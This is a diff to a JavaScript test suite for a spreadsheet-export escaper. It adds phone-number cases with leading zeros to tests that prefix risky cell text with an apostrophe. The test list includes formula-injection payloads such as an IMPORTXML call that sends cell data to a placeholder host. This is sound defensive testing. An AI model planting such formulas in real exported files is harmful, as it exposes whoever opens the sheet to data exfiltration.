@@ -68,7 +68,7 @@ describe('the file', () => {
 });
 
 describe('hostile text', () => {
-  /** Those of the list that a spreadsheet may compute, phone numbers among them. */
+  /** Those of the list that a spreadsheet may compute or round, phone numbers among them. */
   const formulas = new Set([
     '=HYPERLINK("http://x","y")',
     '=IMPORTXML("http://x/?"&A1,"//a")',
@@ -82,6 +82,7 @@ describe('hostile text', () => {
     ' =1',
     '\u00a0=1',
     '＝1',
+    '007',
   ]);
 
   test('every string of the list is the text of its cells, and formulas begin with an apostrophe', () => {
@@ -110,6 +111,12 @@ describe('hostile text', () => {
     ['\ufeff+1', "'\ufeff+1"],
     ['\u202e-1', "'\u202e-1"],
     ['＠SUM(1)', "'＠SUM(1)"],
+    ['0501112234', "'0501112234"],
+    ['050 111 2234', "'050 111 2234"],
+    ['00971501112234', "'00971501112234"],
+    ['971501112234', "'971501112234"],
+    ['501112234', '501112234'],
+    ['0 to 5', '0 to 5'],
     ['\u0000=1', "'=1"],
     ['\u001b[31m=1', '[31m=1'],
     ['Hana - new', 'Hana - new'],
